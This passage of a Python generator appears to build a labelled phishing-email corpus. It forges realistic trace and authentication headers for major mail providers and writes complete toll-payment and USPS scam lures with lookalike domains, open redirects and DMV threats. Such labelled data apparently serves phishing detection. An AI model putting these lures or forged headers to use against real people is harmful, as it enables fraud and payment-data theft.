        f"Received: from {v.ip} (EHLO {v.helo})\n by {inner} with SMTPs\n (version={v.tls} cipher={'TLS_AES_128_GCM_SHA256' if v.tls == 'TLS1_3' else 'ECDHE-RSA-AES128-GCM-SHA256'});\n {rfc(t)}",
    ]
    return top, []


# ---- iCloud Mail


def icloud_trace(s: Sample) -> tuple[list[str], list[str]]:
    v, n, t = s.via, s.name, s.when
    zone = ["us-central-1k", "us-west-1a", "us-east-1b"][num(n, "iz", 0, 2)]
    mta = f"p00-icloudmta-asmtp-{zone}-{num(n, 'im', 10, 99)}-percent-{num(n, 'ip', 0, 9)}"
    gw = f"p{num(n, 'gw', 100, 199)}-mailgateway-smtp-{hx(n, 'gw2', 10)}-{an(n, 'gw3', 5).lower()}"
    mf = v.mailfrom
    where = f"{v.rdns} [{v.ip}]" if v.rdns else f"unknown [{v.ip}]"
    spf = {"pass": f"domain of {mf} designates {v.ip} as permitted sender",
           "fail": f"domain of {mf} does not designate {v.ip} as permitted sender",
           "softfail": f"domain of transitioning {mf} does not designate {v.ip} as permitted sender",
           "neutral": f"{v.ip} is neither permitted nor denied by domain of {mf}",
           "none": f"domain of {mf} does not designate permitted sender hosts"}[v.spf]
    top = [
        f"Return-Path: <{mf}>",
        f"Original-recipient: rfc822;{s.rcpt}",
        f"Received: from {mta} ({mta}.p00-icloudmta-asmtp-vip.icloud-mail-production.svc.kube.{zone}.k8s.cloud.apple.com [172.17.{num(n, 'i3', 0, 255)}.{num(n, 'i4', 1, 254)}])\n"
        f"\tby {gw} (mailgateway 2{num(n, 'mgv', 400, 530)}B{num(n, 'mgv2', 10, 40)})\n\twith SMTP id {guid(n, 'igw')}\n\tfor <{s.rcpt}>;\n"
        f"\t{rfc(t + timedelta(seconds=1))}",
        "X-Apple-MoveToFolder: INBOX ",
        "X-Apple-Action: MOVE_TO_FOLDER/INBOX",
        f"X-Apple-UUID: {guid(n, 'iuuid')}",
        f"Received: from {v.helo} ({where})\n\tby {mta} (Postfix) with ESMTPS id {hx(n, 'ipf', 14).upper()}\n\tfor <{s.rcpt}>; {rfc(t)} (UTC)",
        f"Authentication-Results: dmarc.icloud.com; dmarc={v.dmarc if v.dmarc != 'none' else 'none'} header.from={v.from_domain}",
    ]
    for d, sel, r in v.dkim:
        top.append(f"Authentication-Results: dkim-verifier.icloud.com;\n\tdkim={r if r == 'pass' else 'fail'} (2048-bit key) header.d={d} header.i=@{d} header.b={dkim_b(s, d, sel)[:8]}")
    top += [
        f"Authentication-Results: spf.icloud.com; spf={v.spf} (spf.icloud.com: {spf}) smtp.mailfrom={mf}",
        f"Received-SPF: {v.spf} (spf.icloud.com: {spf}) receiver=spf.icloud.com; client-ip={v.ip}; helo={v.helo}; envelope-from={mf}",
        f"X-ICL-SCORE: {num(n, 'icl', 1, 4)}.{digits(n, 'icl2', 12)}",
        f"X-ICL-INFO: {ub64(n, 'iclinfo', 150)}",
    ]
    return top, []


# ---- Comcast / Xfinity


def comcast_trace(s: Sample) -> tuple[list[str], list[str]]:
    v, n, t = s.via, s.name, s.when
    res = f"resimta-h1p-{num(n, 'cr', 20000, 29999)}.sys.comcast.net"
    imta = f"imta-{num(n, 'ci', 30, 39)}v.sys.comcast.net"
    where = f"{v.rdns} [{v.ip}]" if v.rdns else f"[{v.ip}]"
    dk = " ".join(f"dkim={r} header.d={d} header.s={sel} header.b={dkim_b(s, d, sel)[:8]};" for d, sel, r in v.dkim) or "dkim=none;"
    dm = f"dmarc={v.dmarc} (p={v.policy}) header.from={v.from_domain}" if v.dmarc != "none" else f"dmarc=none header.from={v.from_domain}"
    vaas = "gggruggvucftvghtrhhoucdtuddrgedv" + an(n, "vaas", 180).lower()
    top = [
        f"Return-Path: <{v.mailfrom}>",
        f"Received: from {res} ([96.102.{num(n, 'c3', 100, 200)}.{num(n, 'c4', 1, 254)}])\n\tby {imta} with ESMTP\n\tid {an(n, 'cid', 14)}; {rfc(t + timedelta(seconds=1))}",
        f"X-Xfinity-VAAS: {fold(vaas, 90, ' ')}",
        f"X-Xfinity-VMeta: sc={'0.00' if s.category != 'phishing' else str(num(n, 'vsc', 0, 60)) + '.00'};st=legit",
        f"Authentication-Results: {res};\n\tspf={v.spf} smtp.mailfrom={v.mailfrom};\n\t{dk}\n\t{dm}",
        f"Received: from {v.helo} ({where})\n\tby {res} with ESMTPS\n\tid {an(n, 'cid2', 14)}; {rfc(t)}",
    ]
    return top, []


# ---- Spectrum / Charter


def spectrum_trace(s: Sample) -> tuple[list[str], list[str]]:
    v, n, t = s.via, s.name, s.when
    mx = f"dnvrco-cmimta{num(n, 'sm', 10, 40):02d}.email.rr.com"
    where = f"{v.rdns} [{v.ip}]" if v.rdns else f"[{v.ip}]"
    dk = " ".join(f"dkim={r} header.d={d} header.s={sel};" for d, sel, r in v.dkim) or "dkim=none;"
    dm = f"dmarc={v.dmarc} (p={v.policy.lower()}) header.from={v.from_domain}" if v.dmarc != "none" else f"dmarc=none header.from={v.from_domain}"
    top = [
        f"Return-Path: <{v.mailfrom}>",
        f"Received: from {v.helo} ({where})\n\tby {mx} with ESMTPS\n\tid {an(n, 'sid', 22)}; {rfc(t)}",
        f"Authentication-Results: {mx};\n\tspf={v.spf} smtp.mailfrom={_spf_domain(v)};\n\t{dk}\n\t{dm}",
        f"X-Authority-Analysis: v=2.4 cv={an(n, 'cv', 8)} c=1 sm=1 tr=0 ts={hx(n, 'ts', 8)}\n a={ub64(n, 'a1', 22)}:117 a={ub64(n, 'a2', 22)}:17\n"
        f" a={an(n, 'a3', 10)}:10 a={an(n, 'a4', 10)}:10 a={an(n, 'a5', 10)}:10",
        f"X-CMAE-Envelope: MS4xf{fold(ub64(n, 'cmae', 170), 76, ' ')}",
    ]
    return top, []


TRACERS = {
    "gmail": gmail_trace, "workspace": gmail_trace,
    "outlook": ms_trace, "m365": ms_trace,
    "yahoo": yahoo_trace, "aol": yahoo_trace, "att": yahoo_trace, "verizon": yahoo_trace,
    "icloud": icloud_trace, "comcast": comcast_trace, "spectrum": spectrum_trace,
}


def render(s: Sample) -> bytes:
    top, bottom = TRACERS[s.provider](s)
    block = list(top)
    if s.via.ms_tenant:
        block += ms_arc(s)
    block += dkim_headers(s)
    if s.pre:
        block.append(s.pre.strip("\n"))
    own = s.headers.strip("\n")
    block.append(own)
    if "\nmime-version:" not in "\n" + own.lower():
        block.append("MIME-Version: 1.0")
    block += bottom
    return mime.message("\n".join(block), s.body)


# --------------------------------------------------------------------------
# sender profiles


def gmail_via(address: str, n: str) -> Via:
    return Via(ip=f"209.85.220.{num(n, 'gmip', 41, 73)}", helo=f"mail-sor-f{num(n, 'gmip', 41, 73)}.google.com",
               rdns=None, mailfrom=address, spf="pass", dkim=[("gmail.com", "20230601", "pass")],
               dmarc="pass", policy="NONE", from_domain="gmail.com",
               sign_headers="to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to")


def gmail_pre(s_name: str, when: datetime) -> str:
    """Gmail's own outbound headers under its signature (X-Gm- headers are real here)."""
    n = s_name
    return (f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(when.timestamp()) - 3};"
            f" x={int(when.timestamp()) + 604797};\n        h=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
            f"        bh={b64(n, 'xg-bh', 32)};\n        b={fold(b64(n, 'xg-b', 256), 70, '         ')}\n"
            f"X-Gm-Message-State: AOJu0Y{an(n, 'gms', 60)}\n"
            f"X-Gm-Gg: ASbGnc{an(n, 'ggg', 150)}\n"
            f"X-Google-Smtp-Source: AGHT+I{an(n, 'gsrc-out', 82)}\n"
            f"X-Received: by 2002:a05:{hx(n, 'gx1', 4)}:{hx(n, 'gx2', 4)}:b0:{hx(n, 'gx3', 3)}:{hx(n, 'gx4', 4)}:{hx(n, 'gx4b', 4)} with SMTP id\n"
            f" {an(n, 'gx5', 12).lower()}-{hx(n, 'gx6', 10)}.{num(n, 'gx7', 10, 99)}.{int(when.timestamp()) - 3}{num(n, 'gx8', 100, 999)}; "
            f"{gtime(when - timedelta(seconds=3))}")


def gmail_msgid(n: str) -> str:
    return f"<CA{an(n, 'gmid', 1)}{an(n, 'gmid2', 54)}@mail.gmail.com>".replace("+", "")


def outlook_msgid(n: str, prefix: str = "SN7PR", region: str = "namprd04") -> str:
    box = f"{prefix}{num(n, 'om', 1, 22):02d}MB{num(n, 'om2', 1000, 9999)}"
    return f"<{box}{hx(n, 'om3', 24).upper()}@{box}.{region}.prod.outlook.com>"


def m365_pre(n: str, when: datetime, region: str = "namprd04") -> str:
    box = f"SA1PR{num(n, 'm3', 1, 22):02d}MB{num(n, 'm4', 1000, 9999)}.{region}.prod.outlook.com"
    box2 = f"BL1PR{num(n, 'm5', 1, 22):02d}MB{num(n, 'm6', 1000, 9999)}.{region}.prod.outlook.com"
    return (f"Received: from {box} ({'::1'}) by\n {box2} with Microsoft SMTP Server\n"
            f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(n, 'm7', 8400, 9600)}.{num(n, 'm8', 10, 40)};\n"
            f" {rfc(when - timedelta(seconds=2))}\n"
            f"Received: from {box}\n ([fe80::{hx(n, 'm9', 4)}:{hx(n, 'm10', 4)}:{hx(n, 'm11', 4)}:{hx(n, 'm12', 4)}]) by {box}\n"
            f" ([fe80::{hx(n, 'm9', 4)}:{hx(n, 'm10', 4)}:{hx(n, 'm11', 4)}:{hx(n, 'm12', 4)}%5]) with mapi id 15.20.{num(n, 'm7', 8400, 9600)}.{num(n, 'm8', 10, 40)}; "
            f"{rfc(when - timedelta(seconds=3))}")


def m365_via(domain: str, mailfrom: str, n: str, spf: str = "pass", dmarc: str = "pass", policy: str = "NONE") -> Via:
    ip = f"40.107.{num(n, 'msip1', 200, 244)}.{num(n, 'msip2', 1, 254)}"
    host = f"{['NAM12', 'NAM10', 'NAM11', 'NAM02', 'NAM04'][num(n, 'msnam', 0, 4)]}-{['BN8', 'DM6', 'CO1', 'MW2', 'SN1'][num(n, 'msh', 0, 4)]}-obe.outbound.protection.outlook.com"
    tenant = domain.split(".")[0].replace("-", "")
    return Via(ip=ip, helo=host, rdns=host, mailfrom=mailfrom, spf=spf,
               dkim=[(domain, "selector1", "pass"), (f"{tenant}.onmicrosoft.com", "selector1-" + domain.replace(".", "-"), "pass")],
               dmarc=dmarc, policy=policy, from_domain=domain, ms_tenant=domain,
               sign_headers="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")


def m365_tail(n: str, when: datetime, domain: str) -> str:
    """The headers Exchange Online writes on the sender's side, under the content headers."""
    return (f"X-MS-Has-Attach: \nX-MS-TNEF-Correlator: \nmsip_labels: \n"
            f"x-ms-exchange-senderadcheck: 1\nx-ms-exchange-antispam-relay: 0\n"
            f"X-MS-Exchange-AntiSpam-MessageData-ChunkCount: 1\n"
            f"X-MS-Exchange-AntiSpam-MessageData-0:\n {fold(b64(n, 'md0', 150), 76, ' ')}\n"
            f"X-OriginatorOrg: {domain}\n"
            f"X-MS-Exchange-CrossTenant-AuthAs: Internal\nX-MS-Exchange-CrossTenant-AuthSource: SA1PR{num(n, 'm3', 1, 22):02d}MB{num(n, 'm4', 1000, 9999)}.namprd04.prod.outlook.com\n"
            f"X-MS-Exchange-CrossTenant-Network-Message-Id: {guid(n, 'snmid')}\n"
            f"X-MS-Exchange-CrossTenant-originalarrivaltime: {mstime(when - timedelta(seconds=3))}\n"
            f"X-MS-Exchange-CrossTenant-fromentityheader: Hosted\n"
            f"X-MS-Exchange-CrossTenant-id: {guid(domain, 'tenant')}\n"
            f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: BL1PR{num(n, 'm5', 1, 22):02d}MB{num(n, 'm6', 1000, 9999)}")


def yahoo_via(address: str, n: str) -> Via:
    ip = f"66.163.{num(n, 'yip', 184, 191)}.{num(n, 'yip2', 1, 254)}"
    host = f"sonic{num(n, 'yson', 300, 330)}-{num(n, 'yson2', 1, 40)}.consmr.mail.ne1.yahoo.com"
    dom = _dom(address)
    return Via(ip=ip, helo=host, rdns=host, mailfrom=address, spf="pass", dkim=[(dom, "s2048", "pass")],
               dmarc="pass", policy="REJECT", from_domain=dom,
               sign_headers="Date:From:To:Subject:References:From:Subject:Reply-To")


def yahoo_pre(n: str, when: datetime, address: str) -> str:
    return (f"X-SONIC-DKIM-SIGN: v=1; a=rsa-sha256; c=relaxed/relaxed; d=yahoo.com; s=s2048; t={int(when.timestamp()) - 2};\n"
            f" bh={b64(n, 'ys-bh', 32)}; h=X-Sonic-MF:Date:From:Subject:From:Subject;\n b={fold(b64(n, 'ys-b', 256), 76, ' ')}\n"
            f"X-YMail-OSG: {fold(ub64(n, 'yosg', 300).replace('-', '.'), 76, ' ')}\n"
            f"X-Sonic-MF: <{address}>\n"
            f"X-Sonic-ID: {guid(n, 'ysid')}\n"
            f"Received: from sonic.gate.mail.ne1.yahoo.com by sonic{num(n, 'yson', 300, 330)}.consmr.mail.ne1.yahoo.com with HTTP; "
            f"{rfc(when - timedelta(seconds=2))}")


def sendgrid_via(domain: str, n: str, rcpt: str) -> Via:
    em = f"em{num(n, 'sgem', 1000, 9999)}.{domain}"
    uid = num(n, 'sguid', 10000000, 49999999)
    local, rdom = rcpt.split("@")
    ip = f"{['149.72', '167.89', '168.245'][num(n, 'sgip', 0, 2)]}.{num(n, 'sgip2', 1, 254)}.{num(n, 'sgip3', 1, 254)}"
    host = f"o{num(n, 'sgo', 1, 9)}.ptr{num(n, 'sgptr', 1000, 9999)}.{domain}"
    return Via(ip=ip, helo=host, rdns=host, mailfrom=f"bounces+{uid}-{hx(n, 'sgb', 4)}-{local}={rdom}@{em}",
               spf="pass", dkim=[(domain, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")],
               dmarc="pass", policy="NONE", from_domain=domain,
               sign_headers="from:references:subject:mime-version:content-type:to:cc:content-type:from:subject:to")


def sendgrid_pre(n: str, when: datetime) -> str:
    return (f"Received: by filterdrecv-{hx(n, 'sgf', 10)}-{an(n, 'sgf2', 5).lower()} with SMTP id filterdrecv-{hx(n, 'sgf', 10)}-{an(n, 'sgf2', 5).lower()}-1-"
            f"{hx(n, 'sgf3', 8).upper()}-{num(n, 'sgf4', 1, 40)}\n        {rfc(when - timedelta(seconds=2))} (UTC)\n"
            f"Received: from {an(n, 'sgsrc', 22)} (unknown)\n\tby geopod-ismtpd-{num(n, 'sggeo', 1, 40)} (SG) with HTTP\n"
            f"\tid {an(n, 'sgid', 22)}\n\t{(when - timedelta(seconds=3)).strftime('%a, %d %b %Y %H:%M:%S.%f')[:-3]} +0000 (UTC)")


def sendgrid_tail(n: str) -> str:
    return (f"X-SG-EID: \n =?us-ascii?Q?u001.{an(n, 'sgeid', 60)}?=\n"
            f"X-Entity-ID: u001.{an(n, 'sgent', 22)}==")


def ses_via(domain: str, n: str, custom_dkim: bool = False) -> Via:
    ip = f"54.240.{num(n, 'seip', 8, 11)}.{num(n, 'seip2', 1, 254)}"
    host = f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.amazonses.com"
    dk = [("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")]
    if custom_dkim:
        dk.insert(0, (domain, an(n, "sesel", 32).lower(), "pass"))
    return Via(ip=ip, helo=host, rdns=host,
               mailfrom=f"0100019{hx(n, 'sesmf', 9)}-{hx(n, 'sesmf2', 8)}-{hx(n, 'sesmf3', 4)}-{hx(n, 'sesmf4', 4)}-{hx(n, 'sesmf5', 4)}-{hx(n, 'sesmf6', 12)}-000000@amazonses.com",
               spf="pass", dkim=dk, dmarc="pass" if custom_dkim else "none", policy="NONE", from_domain=domain,
               sign_headers="Subject:From:To:Date:Mime-Version:Content-Type:Message-ID:Feedback-ID")


def ses_msgid(n: str) -> str:
    return f"<0100019{hx(n, 'sesid', 9)}-{hx(n, 'sesid2', 8)}-{hx(n, 'sesid3', 4)}-{hx(n, 'sesid4', 4)}-{hx(n, 'sesid5', 4)}-{hx(n, 'sesid6', 12)}-000000@email.amazonses.com>"


def ses_tail(n: str, when: datetime) -> str:
    return (f"Feedback-ID: ::1.us-east-1.{ub64(n, 'sesfb', 43)}=:AmazonSES\n"
            f"X-SES-Outgoing: {when.strftime('%Y.%m.%d')}-54.240.{num(n, 'seip', 8, 11)}.{num(n, 'seip2', 1, 254)}")


def vps_via(domain: str, host: str, ip: str, mailfrom: str, dkim: bool = False, dmarc: str = "none",
            spf: str = "pass", country: str = "US", rdns: str | None = "same") -> Via:
    return Via(ip=ip, helo=host, rdns=host if rdns == "same" else rdns, mailfrom=mailfrom, spf=spf,
               dkim=[(domain, "default", "pass")] if dkim else [], dmarc=dmarc, policy="NONE", from_domain=domain,
               country=country, sign_headers="Content-Type:MIME-Version:Message-ID:Subject:To:From:Date")


def php_tail() -> str:
    return "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"


def php_msgid(n: str, domain: str) -> str:
    return f"<{an(n, 'phpid', 43)}@{domain}>"


def cpanel_pre(n: str, host: str, when: datetime, user: str, client_ip: str, rcpt: str) -> str:
    return (f"Received: from [{client_ip}] (port={num(n, 'cport', 40000, 65000)} helo=[{client_ip}])\n"
            f"\tby {host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <{user}>)\n"
            f"\tid 1t{an(n, 'exim', 4)}-0000000{an(n, 'exim2', 4)}-{an(n, 'exim3', 4)}\n\tfor {rcpt};\n"
            f"\t{rfc(when - timedelta(seconds=3))}")


def std(frm: str, to: str, subject: str, date: str, msgid: str, *, reply_to: str = "", extra_top: list[str] | None = None,
        extra: list[str] | None = None, mime_version: bool = True) -> str:
    lines = list(extra_top or [])
    lines += [f"From: {frm}", f"To: {to}"]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += [f"Subject: {ew(subject)}", f"Date: {date}", f"Message-ID: {msgid}"]
    lines += list(extra or [])
    if mime_version:
        lines.append("MIME-Version: 1.0")
    return "\n".join(lines)


def sent(when: datetime, tz=UTC, lag: int = 4) -> str:
    return rfc(when - timedelta(seconds=lag), tz)


SAMPLES: list = []


def sample(fn):
    SAMPLES.append(fn)
    return fn


# --------------------------------------------------------------------------
# HTML building blocks


def card(title: str, header: str, body: str, footer: str, bg: str = "#f4f4f4", width: int = 600,
         font: str = "Arial,Helvetica,sans-serif", preheader: str = "") -> str:
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{preheader}</div>\n' if preheader else "")
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>{title}</title></head>
<body style="margin:0;padding:0;background:{bg};font-family:{font};">
{pre}<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:{bg};"><tr><td align="center" style="padding:24px 8px;">
<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;max-width:{width}px;">
<tr><td>{header}</td></tr>
<tr><td style="padding:24px 32px;font-size:15px;line-height:22px;color:#222222;">
{body}
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;line-height:16px;color:#777777;border-top:1px solid #e5e5e5;">{footer}</td></tr>
</table></td></tr></table>
</body></html>
"""


def button(url: str, label: str, color: str) -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:22px 0;"><tr>'
            f'<td style="background:{color};border-radius:4px;"><a href="{url}" target="_blank" '
            f'style="display:inline-block;padding:12px 30px;color:#ffffff;font-weight:bold;text-decoration:none;font-size:15px;">{label}</a>'
            f"</td></tr></table>")


def banner(color: str, logo: str, alt: str, height: int = 34) -> str:
    return (f'<div style="background:{color};padding:16px 32px;"><img src="{logo}" alt="{alt}" height="{height}" '
            f'style="display:block;border:0;"></div>')


def ps(*paragraphs: str) -> str:
    return "\n".join(f'<p style="margin:0 0 14px 0;">{p}</p>' for p in paragraphs)


# ==========================================================================
# PHISHING


@sample
def p01():
    n = "b11-ezpass-unpaid-toll-compromised-dental"
    when = at("2025-01-09 15:42:18")
    rcpt = "dana.whitfield84@gmail.com"
    host = "box2187.bluehost.com"
    via = vps_via("brightsmilefamilydental.com", host, "50.87.144.61", "office@brightsmilefamilydental.com", dkim=True, dmarc="pass")
    url = "https://ezpassny.com-tolls-pay.xin/?ref=NY7741&amp;sid=" + hx(n, "sid", 12)
    inv = f"NY{digits(n, 'inv', 9)}"
    html = card("E-ZPass New York", banner("#4b2a85", "https://ezpassny.com-tolls-pay.xin/img/ezpassny-logo.png", "E-ZPass New York"),
                ps("Dear E-ZPass Customer,",
                   "Our records indicate that your vehicle has an <b>unpaid toll balance of $6.85</b> for travel through the "
                   "Verrazzano-Narrows Bridge (Plaza 9, Lane 14) on January 6, 2025.",
                   "To avoid a <b>$50.00 late fee</b> and the referral of your account to the NYS Department of Motor Vehicles "
                   "for registration suspension, the balance must be paid within <b>12 hours</b> of this notice.",
                   f"Invoice number: <b>{inv}</b><br>Amount due: <b>$6.85</b><br>Due: <b>January 9, 2025</b>")
                + button(url, "Pay Toll Balance", "#4b2a85")
                + ps("Thank you for using E-ZPass.<br>E-ZPass New York Customer Service Center"),
                "This is an automated message. Please do not reply to this email.<br>&copy; 2025 E-ZPass New York. All rights reserved.")
    plain = (f"Dear E-ZPass Customer,\n\nOur records indicate that your vehicle has an unpaid toll balance of $6.85 for travel "
             f"through the Verrazzano-Narrows Bridge (Plaza 9, Lane 14) on January 6, 2025.\n\nTo avoid a $50.00 late fee and the "
             f"referral of your account to the NYS DMV for registration suspension, pay within 12 hours:\n"
             f"{url.replace('&amp;', '&')}\n\nInvoice number: {inv}\nAmount due: $6.85\n\nE-ZPass New York Customer Service Center\n")
    headers = std(addr("E-ZPass New York", "office@brightsmilefamilydental.com"), rcpt,
                  "Final Notice: Unpaid Toll Balance - Invoice " + inv, sent(when, UTC), php_msgid(n, "brightsmilefamilydental.com"),
                  extra=[php_tail()])
    return Sample(n, "phishing", "E-ZPass unpaid-toll notice sent from a dental office's compromised cPanel mailbox, "
                  "late-fee and DMV threat, link to the hyphenated lookalike ezpassny.com-tolls-pay.xin",
                  "gmail", rcpt, when, via, headers, alt(n, "php", plain, html),
                  pre=cpanel_pre(n, host, when, "office@brightsmilefamilydental.com", "102.89.34.117", rcpt))


@sample
def p02():
    n = "b11-sunpass-peaje-pendiente-es"
    when = at("2025-04-15 12:07:51")
    rcpt = "carlosmtz_fl@yahoo.com"
    host = "mail.tollservice-fl.top"
    via = vps_via("tollservice-fl.top", host, "193.29.13.188", "avisos@tollservice-fl.top", country="NL")
    url = "https://sunpass.com-tollpay.icu/es/pago?c=FL-" + digits(n, "c", 5)
    html = card("SunPass", banner("#f7a800", "https://sunpass.com-tollpay.icu/static/sunpass.png", "SunPass"),
                ps("Estimado cliente de SunPass:",
                   "Le informamos que su cuenta tiene un <b>peaje pendiente de pago por $4.15</b> correspondiente a su recorrido "
                   "por la Florida&rsquo;s Turnpike (plaza Cypress Creek) el 12 de abril de 2025.",
                   "Si el saldo no se liquida antes del <b>16 de abril de 2025</b>, se aplicará un cargo administrativo de $25.00 "
                   "y su placa será reportada al Departamento de Vehículos Motorizados de Florida (FLHSMV).")
                + button(url, "Pagar ahora", "#0b4f9c")
                + ps("Gracias por utilizar SunPass.<br>Centro de Servicio al Cliente SunPass"),
                "Este es un mensaje automático, por favor no responda.<br>&copy; 2025 SunPass. Todos los derechos reservados.")
    plain = ("Estimado cliente de SunPass:\n\nSu cuenta tiene un peaje pendiente de pago por $4.15 (Florida's Turnpike, plaza "
             "Cypress Creek, 12 de abril de 2025).\n\nSi no paga antes del 16 de abril se aplicará un cargo de $25.00 y su placa "
             f"será reportada al FLHSMV.\n\nPagar ahora: {url}\n\nCentro de Servicio al Cliente SunPass\n")
    headers = std(addr("SunPass", "avisos@tollservice-fl.top"), rcpt, "Aviso final: peaje pendiente de pago - SunPass",
                  sent(when, UTC), php_msgid(n, "tollservice-fl.top"), extra=[php_tail()])
    return Sample(n, "phishing", "Spanish SunPass unpaid-toll notice from a new .top domain on a Dutch VPS, $25 fee and FLHSMV "
                  "threat, link to the lookalike sunpass.com-tollpay.icu", "yahoo", rcpt, when, via, headers,
                  alt(n, "php", plain, html), lang="es")


@sample
def p03():
    n = "b11-fastrak-google-redirect-outlook"
    when = at("2025-03-11 18:31:02")
    rcpt = "kelsey.nguyen@hotmail.com"
    sender = "fastrak.billing.notice@outlook.com"
    ip = f"40.92.{num(n, 'oip', 40, 60)}.{num(n, 'oip2', 1, 254)}"
    host = "NAM10-DM6-obe.outbound.protection.outlook.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=sender, spf="pass", dkim=[("outlook.com", "selector1", "pass")],
              dmarc="pass", policy="NONE", from_domain="outlook.com", ms_tenant="outlook.com",
              sign_headers="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    target = "https://bayareafastrak-org.info-tolls.top/pay?ref=CA" + digits(n, "r", 6)
    url = f"https://www.google.com/url?q={target}&amp;sa=D&amp;sntz=1&amp;usg=AOvVaw{an(n, 'usg', 22)}"
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head>"
            "<body><div style=\"font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)\">"
            "<p><b>FasTrak&reg; Bay Area &ndash; Toll Violation Notice</b></p>"
            "<p>Dear Customer,</p>"
            "<p>We were unable to process a toll of <b>$7.00</b> for your vehicle's crossing of the San Francisco&ndash;Oakland "
            "Bay Bridge on 03/08/2025. No FasTrak account or license plate account could be charged.</p>"
            "<p>To avoid a <b>$25.00 penalty</b> and a hold on your DMV registration renewal, please pay the outstanding toll "
            "before 03/12/2025.</p>"
            f"<p><a href=\"{url}\">Pay Outstanding Toll</a></p>"
            "<p>Thank you,<br>FasTrak Customer Service Center<br>Bay Area Toll Authority</p></div></body></html>\n")
    plain = ("FasTrak Bay Area - Toll Violation Notice\n\nDear Customer,\n\nWe were unable to process a toll of $7.00 for your "
             "vehicle's crossing of the San Francisco-Oakland Bay Bridge on 03/08/2025.\n\nTo avoid a $25.00 penalty and a hold on "
             f"your DMV registration renewal, pay before 03/12/2025:\n{url.replace('&amp;', '&')}\n\nFasTrak Customer Service Center\n")
    box = f"PH7P220MB{num(n, 'box', 1000, 9999)}"
    headers = std(addr("FasTrak Customer Service", sender), rcpt, "Toll Violation Notice - Payment Required",
                  sent(when, PT), f"<{box}{hx(n, 'mid', 24).upper()}@{box}.NAMP220.PROD.OUTLOOK.COM>",
                  extra=["Accept-Language: en-US", "Content-Language: en-US", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ",
                         f"x-ms-exchange-messagesentrepresentingtype: 1", f"x-tmn: [{an(n, 'tmn', 32)}]"])
    return Sample(n, "phishing", "FasTrak toll-violation notice from a free outlook.com mailbox; the only link is a Google "
                  "/url open redirect to bayareafastrak-org.info-tolls.top, with DMV-hold threat",
                  "outlook", rcpt, when, via, headers, alt(n, "outlook", plain, html), scl=1)


@sample
def p04():
    n = "b11-txtag-pages-dev-icloud"
    when = at("2025-02-20 14:12:40")
    rcpt = "sam.prieto@icloud.com"
    via = ses_via("txtag-notices.com", n)
    url = "https://txtag-org-balance.pages.dev/?acct=" + digits(n, "acct", 8)
    html = card("TxTag", banner("#00205b", "https://txtag-org-balance.pages.dev/logo.svg", "TxTag"),
                ps("Hello TxTag Customer,",
                   "Your TxTag account has an <b>outstanding balance of $4.38</b>. Your last toll transaction on SH 130 could not be "
                   "posted because the payment method on file was declined.",
                   "Please update your payment information by <b>February 21, 2025</b>. Unpaid tolls are converted to "
                   "Pay By Mail invoices with additional administrative fees, and vehicle registration may be blocked by TxDMV.")
                + button(url, "Resolve Balance", "#d52b1e")
                + ps("Thank you for driving with TxTag.", "Texas Department of Transportation &ndash; TxTag Customer Service"),
                "Please do not reply to this email. This mailbox is not monitored.")
    headers = std(addr("TxTag", "noreply@txtag-notices.com"), rcpt, "TxTag: Your account has an outstanding balance of $4.38",
                  sent(when, UTC, 2), ses_msgid(n), extra=[ses_tail(n, when)])
    return Sample(n, "phishing", "TxTag outstanding-balance notice sent through Amazon SES from txtag-notices.com (not txtag.org), "
                  "registration-block threat, link to Cloudflare Pages txtag-org-balance.pages.dev",
                  "icloud", rcpt, when, via, headers, html_only(html))


@sample
def p05():
    n = "b11-usps-redelivery-weebly-comcast"
    when = at("2024-11-26 21:55:09")
    rcpt = "fkowalski@comcast.net"
    host = "a2plcpnl0417.prod.iad2.secureserver.net"
    env = "ridgecrestchiro@a2plcpnl0417.prod.iad2.secureserver.net"
    via = Via(ip="198.71.231.44", helo=host, rdns=host, mailfrom=env, spf="none", dkim=[], dmarc="none",
              from_domain="ridgecrestchiro.com")
    trk = "9400 1118 9922 " + digits(n, "trk", 4) + " " + digits(n, "trk2", 4) + " " + digits(n, "trk3", 2)
    url = "https://usps-redelivery-scheduling.weebly.com/"
    html = card("USPS Tracking", banner("#333366", "https://usps-redelivery-scheduling.weebly.com/uploads/usps-logo.png", "USPS.COM"),
                ps("<b>Delivery Attempt Unsuccessful</b>",
                   f"USPS Tracking&reg; number: <b>{trk}</b>",
                   "Our carrier attempted to deliver your package on November 26, 2024 but could not complete the delivery "
                   "because the <b>street address is incomplete</b> (missing apartment/suite number).",
                   "Please confirm your address within 48 hours to schedule a redelivery. A redelivery fee of $0.30 applies. "
                   "Packages not claimed are returned to the sender.")
                + button(url, "Schedule Redelivery", "#333366")
